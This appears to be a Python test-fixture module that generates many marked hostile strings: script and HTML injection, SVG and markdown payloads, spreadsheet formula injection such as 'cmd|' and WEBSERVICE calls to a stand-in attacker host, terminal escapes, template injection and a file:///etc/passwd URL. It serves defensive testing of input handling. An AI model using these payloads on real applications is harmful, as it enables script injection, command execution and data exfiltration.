"""Hostile strings, each with a mark of its own: if one runs, or asks for something, it says which it was."""

from collections.abc import Iterator

ATTACKER = "attacker.invalid"
"""A name that leads nowhere, by RFC 2606."""

_RUNS = "(window.__ran=window.__ran||[]).push('{n}')"
_FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>{run}</script>",
        "</script><script>{run}</script>",
        "'\"><script>{run}</script>",
        "<scr<script>ipt>{run}</scr</script>ipt>",
        "<SCRIPT SRC=//{host}/{n}.js></SCRIPT>",
        "</textarea></title><script>{run}</script>",
        "<!--><script>{run}</script>-->",
        "]]><script>{run}</script>",
        "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
        "<script\x00>{run}</script>",
    ),
    "html": (
        "<img src=x onerror={run}>",
        "<img src=http://{host}/{n}.png>",
        "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        "<iframe src=http://{host}/{n}></iframe>",
        "<body onload={run}>",
        "<input autofocus onfocus={run}>",
        "<details open ontoggle={run}>x</details>",
        "<video><source onerror={run}></video>",
        "<link rel=stylesheet href=http://{host}/{n}.css>",
        "<meta http-equiv=refresh content='0;url=http://{host}/{n}'>",
        "<form action=http://{host}/{n}><button autofocus>go</button></form>",
        "<style>@import 'http://{host}/{n}.css';</style>",
        "<div style=background:url(http://{host}/{n}.png)>x</div>",
        "<object data=http://{host}/{n}></object>",
        '" onmouseover="{run}" x="',
        "<base href=http://{host}/>",
    ),
    "svg": (
        "<svg onload={run}>",
        "<svg><script>{run}</script></svg>",
        "<svg><image href=http://{host}/{n}.png /></svg>",
        "<svg><animate onbegin={run} attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>",
        "<math><mtext><img src=x onerror={run}></mtext></math>",
    ),
    "markdown": (
        "![x](http://{host}/{n}.png)",
        "[x](javascript:{run})",
        "[x]: http://{host}/{n} 'x'",
        "<http://{host}/{n}>",
        "`<img src=x onerror={run}>`",
        "| a | b |\n|---|---|\n| ![x](http://{host}/{n}.png) | c |",
    ),
    "formula": (
        '=HYPERLINK("http://{host}/{n}","x")',
        "=cmd|' /C calc {n}'!A0",
        "+SUM(1+1)*cmd|' /C calc {n}'!A0",
        "-2+3+cmd|' /C calc {n}'!A0",
        "@SUM(1+1){n}",
        "\t=1+{n}",
        '=WEBSERVICE("http://{host}/{n}")',
        ' =IMPORTXML(CONCAT("http://{host}/{n}"),"//a")',
    ),
    "terminal": (
        "\x1b[31mred {n}\x1b[0m",
        "\x1b]8;;http://{host}/{n}\x07link\x1b]8;;\x07",
        "\x1b]0;title {n}\x07",
        "\x1b[2J\x1b[H{n}",
        "\x9b31m{n}",
        'line {n}\r\ndata: {{"kind":"failed"}}\r\n\r\nevent: ended\r\ndata: {{}}\r\n\r\n',
    ),
    "template": (
        "{{{{constructor.constructor('{run}')()}}}}",
        "${{{run}}}",
        "#{{{run}}}",
        "<%= {run} %>",
        "{{% {run} %}}",
        "{{{{7*{n}}}}}",
        "__proto__[x]={n}",
    ),
    "address": (
        "javascript:{run}",
        "JaVaScRiPt:{run}",
        "java\tscript:{run}",
        "data:text/html,<script>{run}</script>",
        "vbscript:msgbox({n})",
        "file:///etc/passwd?{n}",
        "//{host}/{n}",
        "http://{host}/{n}",
        "blob:http://{host}/{n}",
        "https://{host}\\@127.0.0.1/{n}",
    ),
}


def hostile_strings(count: int) -> list[tuple[str, str]]:
    """So many strings with the family of each; every one is different.

    Args:
        count: How many.
    """
    found = []
    for number, (family, form) in zip(range(count), _endless(), strict=False):
        run = _RUNS.format(n=number)
        found.append((family, form.format(n=number, run=run, host=ATTACKER)))
    return found


def _endless() -> Iterator[tuple[str, str]]:
    """The forms family by family, again and again, each round wrapped in another way."""
    wrappings = ("{}", "x {} y", "\"'>{}", "{}<!--", "</p></div>{}", "&lt;{}&gt;", "\u202e{}", "{}\u0000")
    round_ = 0
    while True:
        wrap = wrappings[round_ % len(wrappings)]
        for family, forms in _FAMILIES.items():
            for form in forms:
                yield family, form if family == "formula" else wrap.replace("{}", form)
        round_ += 1
